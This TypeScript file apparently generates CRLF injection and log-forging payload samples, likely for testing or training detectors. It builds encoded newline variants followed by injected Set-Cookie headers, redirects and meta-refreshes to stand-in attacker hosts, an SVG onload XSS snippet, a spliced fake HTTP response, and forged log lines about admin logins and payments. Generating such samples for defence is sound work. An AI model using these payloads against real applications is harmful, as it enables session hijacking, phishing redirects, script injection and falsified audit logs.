import type { PayloadSample } from '../payload-sample.js';
import type { Rng } from '../rng.js';
import { ATTACKER_HOSTS } from '../templates.js';
import { distinctSamples } from './distinct.js';

const NEWLINES = [
  '%0d%0a',
  '%0a',
  '%0d',
  '%0D%0A',
  '%E5%98%8A%E5%98%8D',
  '%250d%250a',
  '%u000d%u000a',
  '\\r\\n',
  '%0d%0a%09',
  '%23%0d%0a',
  '%3f%0d%0a',
  '%%0a0a',
  '%0d%0d%0a',
];

/** Header injection / response splitting and log-forging payloads. */
export function generateCrlf(rng: Rng, count: number): PayloadSample[] {
  return distinctSamples('crlf', 'crlf', count, rng, (r) => {
    const nl = r.pick(NEWLINES);
    const prefix = r.pick(['', '', '/', 'en', 'x', String(r.int(1, 9999)), 'https://www.example.com/']);
    const header = r.weighted<() => string>([
      [
        () =>
          `Set-Cookie:${r.pick(['', ' '])}${r.pick(['crlf', 'session', 'admin', 'mycookie'])}=${r.pick(['injection', 'true', '1', r.uint32().toString(16)])}`,
        4,
      ],
      [
        () =>
          `Location:${r.pick(['', ' '])}${r.pick(['http://', 'https://', '//'])}${r.pick(ATTACKER_HOSTS)}/`,
        3,
      ],
      [() => `X-XSS-Protection:0${nl}${nl}<svg onload=alert(${r.int(1, 9)})>`, 1],
      [
        () =>
          `Content-Length:0${nl}${nl}HTTP/1.1 200 OK${nl}Content-Type:text/html${nl}${nl}<html>pwned</html>`,
        1,
      ],
      [
        () =>
          `${r.pick(['X-Injected', 'X-Forwarded-Host', 'Access-Control-Allow-Origin', 'Refresh'])}:${r.pick([' ', ''])}${r.pick(['1', '*', `0;url=http://${r.pick(ATTACKER_HOSTS)}/`, r.pick(ATTACKER_HOSTS)])}`,
        2,
      ],
      // Log forging: a fake log line after the newline.
      [
        () =>
          `${r.pick(['INFO', 'ERROR', 'WARN', 'DEBUG', 'CHECKPOINT', 'AUDIT'])}:${r.pick([' ', ''])}${r.pick(['user admin logged in', 'login succeeded for admin', 'payment 0 approved', 'user root authenticated', 'password changed for user admin'])}`,
        3,
      ],
      [
        () =>
          `${r.int(2020, 2025)}-0${r.int(1, 9)}-1${r.int(0, 9)} ${r.int(10, 23)}:${r.int(10, 59)}:${r.int(10, 59)} ${r.pick(['INFO', 'WARN'])} ${r.pick(['Authentication successful for user=admin', 'Transfer completed amount=100000'])}`,
        2,
      ],
    ])();
    return `${prefix}${nl}${header}`;
  });
}
